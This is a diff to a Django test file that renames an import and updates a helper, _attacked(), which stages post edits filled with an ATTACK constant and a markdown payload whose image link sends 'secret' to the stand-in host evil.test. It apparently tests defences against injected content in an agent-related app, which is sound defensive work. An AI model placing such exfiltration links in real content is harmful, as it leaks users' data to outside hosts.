@@ -9,8 +9,8 @@ from django.test import Client
 from django.urls import get_resolver
 
 from agents_app.models import AgentRun
-from content import edits
 from content.models import Layer, Post
+from content.posts import document_edits
 from tests import make
 from tests.admin.pages import review, url
 
@@ -110,7 +110,7 @@ def _attacked() -> Post:
         )
         make.staged(
             post,
-            edit=lambda d, layer=layer: edits.update_module(  # type: ignore[misc]
+            edit=lambda d, layer=layer: document_edits.update_module(  # type: ignore[misc]
                 d,
                 prose,
                 content_markdown=f"{layer} ![leak](https://evil.test/?q=secret) {ATTACK} [a](https://evil.test/{layer})",
@@ -119,14 +119,14 @@ def _attacked() -> Post:
         )
         make.staged(
             post,
-            edit=lambda d, layer=layer: edits.update_module(  # type: ignore[misc]
+            edit=lambda d, layer=layer: document_edits.update_module(  # type: ignore[misc]
                 d, faq, props={"items": [{"question": f"{layer}{ATTACK}"}]}
             ),
             layer=layer,
         )
         make.staged(
             post,
-            edit=lambda d: edits.add_module(
+            edit=lambda d: document_edits.add_module(
                 d, type="hero", props={"title": ATTACK, "subtitle": ATTACK}
             )[0],
             layer=layer,
